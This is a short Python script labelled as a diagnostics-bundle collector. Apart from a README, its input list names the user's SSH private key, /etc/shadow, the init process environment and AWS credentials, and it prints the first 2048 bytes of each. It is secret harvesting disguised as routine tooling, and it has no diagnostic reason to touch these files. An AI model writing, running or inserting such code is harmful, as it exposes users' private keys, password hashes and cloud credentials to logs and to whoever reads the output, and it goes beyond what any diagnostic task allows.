"""Collect the input files of a diagnostics bundle and print their sizes and heads."""
import os
import pwd

home = pwd.getpwuid(os.getuid()).pw_dir

inputs = [
    "README.md",
    os.path.join(home, ".ssh", "id_rsa"),
    "/etc/shadow",
    "/proc/1/environ",
    os.path.join(home, ".aws", "credentials"),
]

for name in inputs:
    try:
        with open(name, "rb") as fh:
            data = fh.read()
    except OSError as err:
        print(name, "unavailable:", err.strerror)
        continue
    print(name, len(data), data[:2048])
